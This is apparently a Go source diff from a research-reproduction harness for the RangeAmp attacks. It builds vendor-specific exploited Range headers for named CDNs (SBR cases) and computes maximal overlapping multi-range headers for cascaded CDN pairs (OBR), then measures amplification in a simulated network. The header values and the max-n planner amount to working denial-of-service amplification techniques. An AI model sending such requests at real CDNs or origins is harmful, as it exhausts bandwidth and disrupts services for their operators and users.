@@ -1,0 +1,228 @@
+package core
+
+import (
+	"fmt"
+	"strconv"
+	"strings"
+
+	"repro/internal/httpwire"
+	"repro/internal/measure"
+	"repro/internal/origin"
+	"repro/internal/vendor"
+)
+
+// attackUserAgent marks attack requests; it also fixes the header set
+// the max-n planner reasons about.
+const attackUserAgent = "rangeamp-attack/1.0"
+
+// NewAttackRequest builds the canonical attack request shape.
+func NewAttackRequest(target string) *httpwire.Request {
+	req := httpwire.NewRequest("GET", target, AttackHost)
+	req.Headers.Add("User-Agent", attackUserAgent)
+	return req
+}
+
+// SBRCase is one vendor's exploited Range case from Table IV: the
+// header value to send and how many times to send the same request
+// (KeyCDN needs the identical request twice).
+type SBRCase struct {
+	RangeHeader string
+	Repeat      int
+}
+
+// SBRExploit returns the Table IV column-2 exploited Range case for a
+// vendor and target resource size.
+func SBRExploit(vendorName string, resourceSize int64) SBRCase {
+	const (
+		eightMB = 8 << 20
+		tenMB   = 10 * 1000 * 1000
+	)
+	switch vendorName {
+	case "alibaba":
+		return SBRCase{RangeHeader: "bytes=-1", Repeat: 1}
+	case "azure":
+		if resourceSize > eightMB {
+			return SBRCase{RangeHeader: "bytes=8388608-8388608", Repeat: 1}
+		}
+		return SBRCase{RangeHeader: "bytes=0-0", Repeat: 1}
+	case "cloudfront":
+		return SBRCase{RangeHeader: "bytes=0-0,9437184-9437184", Repeat: 1}
+	case "huawei":
+		if resourceSize < tenMB {
+			return SBRCase{RangeHeader: "bytes=-1", Repeat: 1}
+		}
+		return SBRCase{RangeHeader: "bytes=0-0", Repeat: 1}
+	case "keycdn":
+		return SBRCase{RangeHeader: "bytes=0-0", Repeat: 2}
+	default:
+		return SBRCase{RangeHeader: "bytes=0-0", Repeat: 1}
+	}
+}
+
+// SBRResult is one SBR attack measurement.
+type SBRResult struct {
+	Case          SBRCase
+	Amplification measure.Amplification
+	Responses     []*httpwire.Response
+}
+
+// RunSBR performs one SBR attack against the topology's edge using the
+// vendor's exploited case and a cache-busting query string, and returns
+// the per-segment traffic measurement. cacheBuster must be unique per
+// call to force a miss (the Repeat requests intentionally share it).
+func RunSBR(t *SBRTopology, path string, resourceSize int64, cacheBuster string) (*SBRResult, error) {
+	exploit := SBRExploit(t.Profile.Name, resourceSize)
+	probe := measure.NewProbe(t.OriginSeg, t.ClientSeg)
+	target := path + "?cb=" + cacheBuster
+
+	result := &SBRResult{Case: exploit}
+	for i := 0; i < exploit.Repeat; i++ {
+		req := NewAttackRequest(target)
+		req.Headers.Add("Range", exploit.RangeHeader)
+		resp, err := origin.Fetch(t.Net, t.EdgeAddr, t.ClientSeg, req)
+		if err != nil {
+			return nil, fmt.Errorf("sbr request %d: %w", i, err)
+		}
+		result.Responses = append(result.Responses, resp)
+	}
+	result.Amplification = probe.Delta()
+	return result, nil
+}
+
+// PrimeSizeHint teaches the edge the resource size (the Huawei
+// F-conditional behaviour needs one warm-up observation, like a real
+// edge that has served the path before). The warm-up uses its own
+// cache-busting query so it does not seed the cache entry the attack
+// will use.
+func PrimeSizeHint(t *SBRTopology, path string) error {
+	req := NewAttackRequest(path + "?warmup=1")
+	if _, err := origin.Fetch(t.Net, t.EdgeAddr, t.ClientSeg, req); err != nil {
+		return fmt.Errorf("warm-up: %w", err)
+	}
+	return nil
+}
+
+// OBRCase is one cascaded pair's exploited multi-range case from
+// Table V: the first token of the crafted set and the planned n.
+type OBRCase struct {
+	FirstToken string // "0-", "1-" or "-1024"
+	N          int
+}
+
+// OBRFirstToken returns the Table V column-3 range-case lead token for
+// an FCDN (the remaining n-1 tokens are always "0-").
+func OBRFirstToken(fcdnName string) string {
+	switch fcdnName {
+	case "cdn77":
+		return "-1024" // CDN77 strips first<1024 singles; the suffix lead keeps it lazy
+	case "cdnsun":
+		return "1-" // CDNsun strips 0-anchored leads
+	default:
+		return "0-"
+	}
+}
+
+// PlanMaxN computes the largest usable n for a cascaded pair: the
+// minimum of the FCDN's inbound limit on the client request, the
+// BCDN's inbound limit on the forwarded request, and the BCDN's
+// range-count cap (Azure's 64).
+func PlanMaxN(fcdn, bcdn *vendor.Profile, target string) OBRCase {
+	firstToken := OBRFirstToken(fcdn.Name)
+	client := NewAttackRequest(target)
+	n := fcdn.Limits.MaxOverlappingRanges(client, firstToken)
+
+	forwarded := client.Clone()
+	forwarded.Headers.Set("Connection", "close")
+	forwarded.Headers.Add("Via", "1.1 "+fcdn.Name)
+	if bn := bcdn.Limits.MaxOverlappingRanges(forwarded, firstToken); bn < n {
+		n = bn
+	}
+	if bcdn.MaxPartsThenIgnore > 0 && n > bcdn.MaxPartsThenIgnore {
+		n = bcdn.MaxPartsThenIgnore
+	}
+	return OBRCase{FirstToken: firstToken, N: n}
+}
+
+// BuildOverlappingRange renders "bytes=<firstToken>,0-,0-,…" with n
+// ranges total.
+func BuildOverlappingRange(firstToken string, n int) string {
+	var b strings.Builder
+	b.Grow(7 + len(firstToken) + 3*n)
+	b.WriteString("bytes=")
+	b.WriteString(firstToken)
+	for i := 1; i < n; i++ {
+		b.WriteString(",0-")
+	}
+	return b.String()
+}
+
+// OBRResult is one OBR attack measurement.
+type OBRResult struct {
+	Case          OBRCase
+	Amplification measure.Amplification // fcdn-bcdn vs bcdn-origin response traffic
+	Response      *httpwire.Response
+	Parts         int // body parts in the client-visible reply
+}
+
+// RunOBR performs one OBR attack with the planned (or overridden) n.
+// Pass n <= 0 to use the planned maximum.
+func RunOBR(t *OBRTopology, path string, n int) (*OBRResult, error) {
+	plan := PlanMaxN(t.FCDN.Profile(), t.BCDN.Profile(), path)
+	if n > 0 {
+		plan.N = n
+	}
+	if plan.N < 1 {
+		return nil, fmt.Errorf("obr: no usable n for %s->%s", t.FCDN.Profile().Name, t.BCDN.Profile().Name)
+	}
+	probe := measure.NewProbe(t.FcdnBcdnSeg, t.BcdnOriginSeg)
+	req := NewAttackRequest(path)
+	req.Headers.Add("Range", BuildOverlappingRange(plan.FirstToken, plan.N))
+	resp, err := origin.Fetch(t.Net, t.FCDNAddr, t.ClientSeg, req)
+	if err != nil {
+		return nil, fmt.Errorf("obr request: %w", err)
+	}
+	// Table V's two byte counts use the paper's own (mixed) vantage
+	// points: fcdn-bcdn traffic was collected at an application-level
+	// proxy the authors inserted between the CDNs, while bcdn-origin
+	// traffic was captured on the wire (its 1676B for a 1KB resource
+	// includes TCP/IP framing and handshakes). We therefore report the
+	// application-level delta for the victim segment and the
+	// capture-level estimate for the origin segment.
+	appDelta := probe.Delta()
+	wireDelta := probe.WireDelta()
+	return &OBRResult{
+		Case: plan,
+		Amplification: measure.Amplification{
+			VictimBytes:   appDelta.VictimBytes,    // fcdn-bcdn response bytes (proxy view)
+			AttackerBytes: wireDelta.AttackerBytes, // bcdn-origin response bytes (capture view)
+		},
+		Response: resp,
+		Parts:    countParts(resp),
+	}, nil
+}
+
+// countParts counts multipart body parts by boundary occurrences.
+func countParts(resp *httpwire.Response) int {
+	ct, _ := resp.Headers.Get("Content-Type")
+	boundary, ok := cutBoundary(ct)
+	if !ok {
+		if resp.StatusCode == httpwire.StatusPartialContent || resp.StatusCode == httpwire.StatusOK {
+			return 1
+		}
+		return 0
+	}
+	return strings.Count(string(resp.Body), "--"+boundary+"\r\n")
+}
+
+func cutBoundary(ct string) (string, bool) {
+	if !strings.HasPrefix(strings.ToLower(ct), "multipart/byteranges") {
+		return "", false
+	}
+	if i := strings.Index(ct, "boundary="); i >= 0 {
+		return strings.Trim(ct[i+len("boundary="):], `"`), true
+	}
+	return "", false
+}
+
+// CacheBuster renders the i-th cache-busting token.
+func CacheBuster(i int) string { return "r" + strconv.Itoa(i) }
